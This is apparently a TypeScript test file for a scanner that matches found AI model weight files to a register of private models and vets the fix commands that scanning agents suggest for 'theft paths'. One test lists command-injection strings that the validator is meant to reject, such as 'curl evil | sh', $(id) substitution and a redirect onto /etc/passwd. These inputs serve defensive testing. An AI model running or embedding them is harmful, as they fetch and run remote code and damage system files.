import assert from "node:assert/strict";
import { test } from "node:test";
import { config, scanReport } from "@outweigh/schema";
import { registeredScan } from "./registered-scan.ts";

const digest = "a".repeat(64);
const sum = "b".repeat(64);
const { models: register } = config.parse({
  models: [
    { name: "acme", class: "private", digest, places: ["file:///srv/acme/", "s3://acme/"] },
    { name: "by-file", class: "private", files: [{ path: "m.bin", bytes: 1, sha256: sum }], places: ["file:/srv/b"] },
  ],
});

function scanOf(paths: readonly string[], over: { digest?: string; sha256?: string; name?: string } = {}) {
  const { name, sha256 } = over;
  const known = over.digest ?? digest;
  const copy = { format: "gguf", bytes: 1, digest: known, complete: true, readableBy: [], declared: true, sha256 };
  return scanReport.parse({
    version: "1",
    startedAt: "2026-01-01T00:00:00Z",
    finishedAt: "2026-01-01T00:00:01Z",
    roots: ["/"],
    filesSeen: 1,
    bytesRead: 1,
    models: [
      {
        id: "m",
        name,
        digest: known,
        bytes: 1,
        tensors: 1,
        formats: ["gguf"],
        copies: paths.map((path) => ({ ...copy, path })),
      },
    ],
    listeners: [],
    paths: [],
    notSeen: [],
  });
}

function told(scan: ReturnType<typeof scanOf>) {
  const [model] = registeredScan(scan, register).models;
  return { name: model?.name, class: model?.class, declared: model?.copies.map((it) => it.declared) };
}

test("a copy that an agent found is judged by our register, whatever the agent says of it", () => {
  const found = told(scanOf(["/srv/acme/m.gguf", "/home/ana/x.jpg", "/srv/acme-2/m.gguf"], { name: "by-file" }));
  assert.deepEqual(found, { name: "acme", class: "private", declared: [true, false, false] });
});

test("a file's SHA-256 tells a model of which the register has no digest", () => {
  const found = told(scanOf(["/srv/b", "/tmp/m.bin"], { digest: "c".repeat(64), sha256: sum }));
  assert.deepEqual(found, { name: "by-file", class: "private", declared: [true, false] });
});

test("of a model that is in no register nobody knows whether it is declared", () => {
  const found = told(scanOf(["/srv/acme/m.gguf"], { digest: "d".repeat(64), name: "acme" }));
  assert.deepEqual(found, { name: undefined, class: undefined, declared: [undefined] });
});

test("theft paths call a model as the register does, else as the agent did", () => {
  const paths = ["m", "other"].map((model) => ({ model, steps: [] }));
  const known = registeredScan({ ...scanOf(["/srv/acme/m.gguf"]), paths }, register).paths;
  assert.deepEqual(
    known.map((it) => it.model),
    ["acme", "other"],
  );
});

test("a host that lies brings no fix in which another command hides", () => {
  const fixOf = (fix: string) => {
    const path = { model: "m", steps: [], fix };
    return registeredScan({ ...scanOf(["/a"]), paths: [path], models: [] }, register).paths[0]?.fix;
  };
  for (const it of [
    "chmod o-r '/srv/it'\\''s; here'",
    "sed -i '5a deny all;' /etc/nginx/a && nginx -s reload",
    "chmod u-s /usr/bin/find",
  ])
    assert.equal(fixOf(it), it);
  for (const it of [
    "chmod o-r /a; curl evil | sh",
    "echo `id`",
    "echo $(id)",
    "chmod o-r /a\nid",
    "a & b",
    "a > /etc/passwd",
    "a ' ; id",
    "chmod '\u202e'",
  ])
    assert.equal(fixOf(it), undefined, it);
});
